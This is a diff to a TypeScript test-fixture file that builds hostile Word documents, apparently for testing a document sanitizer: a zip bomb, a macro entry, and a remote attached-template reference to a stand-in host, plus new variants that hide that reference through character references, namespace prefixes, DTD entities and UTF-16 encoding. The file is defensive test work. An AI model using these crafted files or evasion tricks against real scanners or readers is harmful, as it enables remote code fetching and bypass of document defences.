@@ -184,13 +184,36 @@ export const bombDocx = () => docx({ name: 'word/media/a.bin.xml', content: Buff
 export const lyingDocx = () =>
   docx({ name: 'word/media/a.xml', content: Buffer.alloc(150 * 1024 * 1024), saysSize: 1_024 });
 export const macroDocx = () => docx({ name: 'word/vbaProject.bin', content: Buffer.from('macro') });
-export const fetchingDocx = () =>
-  docx({
-    name: 'word/_rels/settings.xml.rels',
-    content: Buffer.from(
-      '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://bad.example/t.dotm" TargetMode="External"/></Relationships>',
+const template = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate';
+const relations = (relation: string) => Buffer.from(`<Relationships>${relation}</Relationships>`);
+const fetched = relations(
+  `<Relationship Id="r1" Type="${template}" Target="https://bad.example/t.dotm" TargetMode="External"/>`,
+);
+export const fetchingDocx = (content: Buffer = fetched) => docx({ name: 'word/_rels/settings.xml.rels', content });
+/** The same reference in other writings of XML, by what hides it. */
+export const hiddenReferences: readonly (readonly [string, Buffer])[] = [
+  [
+    'a bracket in the address',
+    relations(`<Relationship Type="${template}" Target="https://bad.example/?>" TargetMode="External"/>`),
+  ],
+  [
+    'a letter as its number',
+    relations(`<Relationship Type="${template}" Target="https://bad.example" TargetMode="&#69;xternal"/>`),
+  ],
+  [
+    'a prefix',
+    Buffer.from(
+      `<p:Relationships xmlns:p="p"><p:Relationship Type="${template}" Target="https://bad.example" TargetMode="External"/></p:Relationships>`,
     ),
-  });
+  ],
+  [
+    'an entity',
+    Buffer.from(
+      `<!DOCTYPE r [<!ENTITY e "External">]><Relationships><Relationship Type="${template}" TargetMode="&e;"/></Relationships>`,
+    ),
+  ],
+  ['two bytes a letter', Buffer.from(`\uFEFF${fetched.toString()}`, 'utf16le')],
+];
 export const linkingDocx = () =>
   docx({
     name: 'word/_rels/document.xml.rels',
